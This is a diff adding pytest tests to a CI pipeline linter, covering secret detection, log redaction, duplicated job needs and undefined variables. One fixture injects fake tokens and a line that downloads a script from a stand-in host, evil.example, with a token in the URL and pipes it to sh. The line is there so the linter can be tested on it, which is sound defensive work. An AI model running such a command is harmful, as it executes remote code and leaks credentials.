@@ -6,7 +6,8 @@ import pytest
 
 from shared.ci.dockerfile_images import dockerfile_images
 from shared.ci.document import parse
-from shared.ci.lint import check, errors
+from shared.ci.finding import with_line
+from shared.ci.lint import check, check_gitlab, errors
 from tests.ci.pipelines import DOCKERFILE, PIPELINE, REGISTRY, files
 from tests.ci.test_policy import with_command
 
@@ -152,3 +153,29 @@ def test_a_secret_in_a_comment_is_found() -> None:
 def test_honest_commands_stay_honest(honest: str) -> None:
     """What is put together is not more than what was written."""
     assert rules_of(with_command(honest)) == set()
+
+
+SECRETS = ("glpat-abcdefghij0123456789", "Zx81abcdefghij0123456789")
+
+
+def test_no_finding_repeats_a_secret() -> None:
+    """Findings go into events and logs: neither their message nor the line beside it has what the rule is about."""
+    told = PIPELINE.replace("  IMAGE:", f"  API_TOKEN: {SECRETS[0]}\n  DB_PASSWORD: {SECRETS[1]}\n  IMAGE:")
+    told = told.replace("- bandit -r . -ll", f"- curl -o x https://{SECRETS[0]}@evil.example/x && sh x")
+    found = check(files(told), registry=REGISTRY)
+    said = "".join(with_line(finding, files(told)) for finding in found)
+    assert {"policy-secret", "policy-download-to-shell"} <= {finding.rule for finding in found}
+    assert not [secret for secret in SECRETS if secret in said]
+
+
+def test_a_job_needed_twice_is_refused() -> None:
+    """GitLab refuses the pipeline: "has the following needs duplicated"."""
+    twice = PIPELINE.replace("needs: [build]", "needs: [build, build]")
+    assert [f.rule for f in errors(check(files(twice), registry=REGISTRY))] == ["double-need"]
+
+
+def test_a_dot_that_is_an_argument_sources_nothing() -> None:
+    """A name that nothing defines is told, unless a script reads definitions from a file."""
+    text = "a:\n  script:\n    - docker build .\n    - echo $NOWHERE\n"
+    assert [f.rule for f in check_gitlab(parse(text))] == ["undefined-variable"]
+    assert check_gitlab(parse(text.replace("docker build .", ". ./names"))) == []
